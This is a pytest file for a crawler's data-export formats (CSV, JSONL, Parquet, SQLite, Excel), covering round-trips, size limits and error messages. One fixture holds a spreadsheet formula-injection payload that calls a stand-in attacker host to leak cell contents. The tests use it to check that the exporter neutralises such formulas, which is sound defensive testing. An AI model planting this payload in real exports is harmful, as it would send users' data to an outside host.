"""Each format holds what the store has, and never runs in a spreadsheet."""

from __future__ import annotations

import base64
import csv
import gc
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pyarrow import parquet

from crawlproj.errors import ConfigError, ExportError
from crawlproj.export.formats import xlsx_file
from crawlproj.export.formats.table import format_of
from crawlproj.export.selection import Column
from crawlproj.store.base import Row
from tests.export.helpers import SUFFIXES, exported, fill, read
from tests.store.helpers import page

HTML = b"(\xb5/\xfd\0"


@pytest.fixture
def store(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path}/store.db"


PAGE: dict[str, Any] = {
    "title": 'Ünïcode, "quoted"\nand long',
    "fetched_at": 1795860682.25,
    "timings": {"ttfb": 0.5},
    "html": HTML,
}
BASE64 = base64.b64encode(HTML).decode()
EXPECTED: dict[str, dict[str, Any]] = {
    ".csv": {
        "status": "200",
        "fetched_at": "1795860682.25",
        "timings": '{"ttfb": 0.5}',
        "html": BASE64,
        "depth": "",
    },
    ".jsonl": {"timings": {"ttfb": 0.5}, "html": {"base64": BASE64}},
    ".parquet": {},
    ".sqlite": {},
    ".xlsx": {"html": BASE64},
}


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_format_brings_back_what_the_store_has(suffix: str, store: str, tmp_path: Path) -> None:
    fill(store, [page("https://a.example/", **PAGE)])
    columns = ("title", "status", "fetched_at", "timings", "html", "depth")
    path = tmp_path / f"pages{suffix}"
    exported(store, path, columns=columns)
    stored = {**PAGE, "status": 200, "timings": '{"ttfb": 0.5}', "depth": None}
    assert read(path) == [{name: {**stored, **EXPECTED[suffix]}[name] for name in columns}]
    assert path.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_table_without_rows_is_a_file_with_its_columns(
    suffix: str, store: str, tmp_path: Path
) -> None:
    fill(store, [])
    path = tmp_path / f"skipped{suffix}"
    assert exported(store, path).rows == 0
    assert read(path) == []
    if suffix == ".csv":
        assert path.read_text() == "url,reason,detail,depth,skipped_at\n"
    if suffix == ".parquet":
        assert parquet.read_schema(path).names == ["url", "reason", "detail", "depth", "skipped_at"]


FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def test_a_csv_cell_that_a_spreadsheet_would_run_is_disarmed_and_so_is_a_heading(
    store: str, tmp_path: Path
) -> None:
    fill(store, [Row("items", {"=A1": FORMULA, "n": -5, "text": "-5.5", "m": "@x"}, key="k")])
    exported(store, tmp_path / "items.csv", columns=("=A1", "n", "text", "m"))
    with (tmp_path / "items.csv").open(newline="") as file:
        assert list(csv.reader(file)) == [
            ["'=A1", "n", "text", "m"],
            [f"'{FORMULA}", "-5", "-5.5", "'@x"],
        ]


def test_an_excel_cell_that_excel_would_run_is_text_also_when_somebody_edits_it(
    store: str, tmp_path: Path
) -> None:
    fill(store, [Row("items", {"=A1": FORMULA, "error": "#N/A", "plain": "x"}, key="k")])
    exported(store, tmp_path / "items.xlsx", columns=("=A1", "error", "plain"))
    sheet = openpyxl.load_workbook(tmp_path / "items.xlsx").worksheets[0]
    cells = [sheet["A1"], sheet["A2"], sheet["B2"], sheet["C2"]]
    assert [cell.value for cell in cells] == ["=A1", FORMULA, "#N/A", "x"]
    assert [bool(cell.quotePrefix) for cell in cells] == [True, True, False, False]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}


def test_excel_gets_what_it_can_hold_and_a_note_says_what_was_cut(
    store: str, tmp_path: Path
) -> None:
    fill(store, [Row("items", {"id": 2**60, "text": "x" * 40_000, "bell": "a\x07b"}, key="k")])
    done = exported(store, tmp_path / "items.xlsx", columns=("id", "text", "bell"))
    (row,) = read(tmp_path / "items.xlsx")
    assert row == {"id": str(2**60), "text": "x" * 32_767, "bell": "a\ufffdb"}
    assert done.notes == ("texts cut to 32,767 characters, the most of a cell: 1",)


@pytest.mark.parametrize("text", ["a\ufffeb", "a\uffffb", "a\x00b", "a\x1fb"])
def test_a_character_that_xml_cannot_hold_does_not_cost_the_workbook(
    text: str, store: str, tmp_path: Path
) -> None:
    fill(
        store,
        [Row("items", {"text": text}, key="k"), Row("items", {"text": "\U0010fffd"}, key="l")],
    )
    exported(store, tmp_path / "items.xlsx", columns=("text",))
    assert [row["text"] for row in read(tmp_path / "items.xlsx")] == ["a\ufffdb", "\U0010fffd"]


def test_excel_counts_an_emoji_as_two_characters(store: str, tmp_path: Path) -> None:
    fill(store, [Row("items", {"text": "\U0001f600" * 20_000}, key="k")])
    done = exported(store, tmp_path / "items.xlsx", columns=("text",))
    assert read(tmp_path / "items.xlsx") == [{"text": "\U0001f600" * 16_383}]
    assert done.notes == ("texts cut to 32,767 characters, the most of a cell: 1",)


def test_more_rows_than_excel_has_are_an_error_and_no_file(
    store: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx_file, "MAX_ROWS", 3)
    fill(store, [page(f"https://a.example/{number}") for number in range(3)])
    with pytest.raises(ExportError, match=r"at most 3 rows.*--limit"):
        exported(store, tmp_path / "pages.xlsx", columns=("url",))
    assert not (tmp_path / "pages.xlsx").exists()
    assert exported(store, tmp_path / "pages.xlsx", columns=("url",), limit=2).rows == 2


def test_parquet_is_written_in_groups_so_that_memory_does_not_grow(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "x.parquet"
    monkeypatch.setattr("crawlproj.export.formats.parquet_file._GROUP_BYTES", 1000)
    writer = format_of(path)(path, "pages", [Column("text", "text")])
    for _ in range(10):
        writer.write(("x" * 300,))
    writer.finish()
    assert parquet.ParquetFile(path).num_row_groups == 3
    assert parquet.read_table(path).num_rows == 10


def test_an_unknown_extension_is_an_error_that_names_those_that_are_known(
    store: str, tmp_path: Path
) -> None:
    for name in ("pages.txt", "pages"):
        with pytest.raises(ConfigError, match=r"\.csv, \.jsonl, \.parquet, \.sqlite, \.xlsx"):
            exported(store, tmp_path / name)


@pytest.mark.parametrize(("suffix", "library"), [(".parquet", "pyarrow"), (".xlsx", "openpyxl")])
def test_a_missing_library_is_an_error_that_says_what_to_install(
    suffix: str, library: str, store: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, library, None)
    monkeypatch.delitem(sys.modules, f"crawlproj.export.formats.{suffix[1:]}_file", raising=False)
    with pytest.raises(ConfigError, match=r"pip install 'crawlproj\[export\]'"):
        exported(store, tmp_path / f"pages{suffix}")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="a device of Linux")
@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_a_workbook_that_finds_no_room_at_its_end_raises_one_error() -> None:
    book = xlsx_file.XlsxFile(Path("/dev/full"), "pages", [Column("name", None)])
    for number in range(20_000):
        book.write([f"{number} {number**3}"])
    with pytest.raises(OSError, match="No space left"):
        book.finish()
    book.abandon()
    del book
    gc.collect()
